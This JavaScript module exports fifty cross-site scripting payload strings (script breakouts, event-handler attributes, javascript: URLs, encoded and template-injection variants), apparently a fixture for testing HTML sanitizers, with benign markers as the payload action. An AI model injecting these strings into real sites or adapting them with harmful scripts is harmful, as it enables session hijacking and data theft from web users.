// Fifty strings that run `window.pwned = 1` or open an alert wherever text is taken for markup.
const RUN = "window.pwned=1";
const handlers = ["onerror", "onload", "onfocus", "onclick", "onmouseover", "ontoggle", "onanimationstart",
  "onpointerenter", "onbegin", "onpageshow"];

export const PAYLOADS = [
  `<script>${RUN}</script>`, `</script><script>${RUN}</script>`, `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`,
  ...handlers.map((name) => `<img src=x ${name}=${RUN}>`),
  ...handlers.map((name) => `" autofocus ${name}="${RUN}`),
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>">`, `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>`, `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`, `<video><source onerror=${RUN}></video>`,
  `<object data="javascript:${RUN}">`, `<embed src="javascript:${RUN}">`, `<base href="javascript:/a/">`,
  `<math><mtext><img src=x onerror=${RUN}>`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`,
  `';alert(1);//`,
];
if (PAYLOADS.length !== 50) throw new Error(`${PAYLOADS.length} payloads`);
